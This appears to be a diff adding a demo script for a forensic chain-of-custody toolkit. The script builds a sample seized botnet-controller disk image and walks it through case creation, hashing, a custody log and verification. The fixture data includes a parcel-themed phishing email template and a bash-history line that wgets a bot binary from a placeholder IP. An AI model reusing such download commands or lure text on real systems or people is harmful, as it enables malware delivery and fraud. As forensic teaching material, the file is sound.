@@ -1,0 +1,87 @@
+#!/bin/sh
+# demo.sh BUILD_DIR - custody on a built-in sample case.
+#
+# Makes a small "seized controller disk" (an ext4 image built with
+# mke2fs -d from files such a server holds: a panel config, a recipient
+# list, a spam template, an access log), then opens a case, registers the
+# seized item, registers the disk image as an artifact, records a hand-over
+# and verifies the case.  Everything lands in BUILD_DIR/demo/.
+set -eu
+build=${1:-build}
+top=$(cd "$(dirname "$0")/.." && pwd)
+PATH="$(cd "$build/bin" && pwd):$PATH"
+export PATH
+out="$(cd "$build" && pwd)/demo"
+rm -rf "$out"
+mkdir -p "$out/disk/var/www/panel" "$out/disk/var/log/nginx" "$out/disk/root"
+say() { printf '\n== %s\n' "$*"; }
+
+say "making a sample seized controller disk"
+cat >"$out/disk/var/www/panel/config.php" <<'PHP'
+<?php
+// bot panel configuration
+$db_host = 'localhost';
+$db_user = 'panel';
+$db_pass = 'x7Qp!2rT';
+$cnc_servers = array('update.example.net', 'cdn-check.example.org', '203.0.113.17');
+$bot_interval = 300;
+PHP
+cat >"$out/disk/var/www/panel/recipients.txt" <<'TXT'
+alice@example.com
+bob.smith@example.org
+carol@example.net
+TXT
+cat >"$out/disk/var/www/panel/template.eml" <<'EML'
+Subject: Your parcel could not be delivered
+From: "Delivery Service" <noreply@example.com>
+
+Open the attached form to reschedule: http://parcel.example.net/track?id={ID}
+EML
+cat >"$out/disk/var/log/nginx/access.log" <<'LOG'
+198.51.100.23 - - [15/Mar/2011:23:59:01 +0000] "POST /gate.php HTTP/1.1" 200 112
+198.51.100.45 - - [15/Mar/2011:23:59:07 +0000] "POST /gate.php HTTP/1.1" 200 112
+LOG
+printf 'wget http://203.0.113.17/bot.bin\n' >"$out/disk/root/.bash_history"
+mke2fs -q -F -t ext4 -L controller -d "$out/disk" "$out/controller-disk.img" 8M
+echo "$out/controller-disk.img"
+
+say "custody-case init: a new case folder"
+custody-case init "$out/case" --number 2011-RX-001 --title "Operation b107 (sample)" \
+	--examiner "Jane Examiner" --agency "Digital Crimes Unit" \
+	--authority "Sample court order 11-CV-00466"
+
+say "custody-case add-item: the seized disk"
+custody-case add-item --case "$out/case" --item E001 --exhibit 1 \
+	--description "Controller server disk, hosting provider rack 12" \
+	--make "Western Digital" --model WD5000AAKS --serial WD-SAMPLE-0001 \
+	--seized-at "Hosting provider, Kansas City" --seized-on 2011-03-16T14:05:00Z \
+	--seized-by "US Marshal" --seal S-0042
+
+say "custody-hash: register the disk image as a sealed unit"
+custody-hash --case "$out/case" --item E001 --note "image handed over by the provider" \
+	"$out/controller-disk.img"
+
+say "custody-log add: the hand-over to the evidence room"
+custody-log add --case "$out/case" --action transferred --item E001 \
+	--from "Jane Examiner" --to "Evidence custodian" --location "Evidence room, locker 12"
+
+say "custody-log show: the timeline"
+custody-log show --case "$out/case"
+
+say "custody-verify: check the whole case"
+custody-verify --case "$out/case"
+
+say "stock tools agree"
+unit=$(ls -d "$out"/case/artifacts/E001-H*)
+(cd "$unit" && sha256sum -c SHA256SUMS)
+
+cat <<EOF
+
+The sample case is in $out/case
+Look at:
+  case.json, items/E001/item.json      the case and the seized item
+  custody.log                          the hash-linked custody log (one JSON event per line)
+  ${unit#"$out/case/"}/          a sealed unit: files/, artifacts.json, SHA256SUMS, manifest.hashdeep
+Try: custody-case status --case $out/case
+     change a byte in the unit and run custody-verify --case $out/case again
+EOF
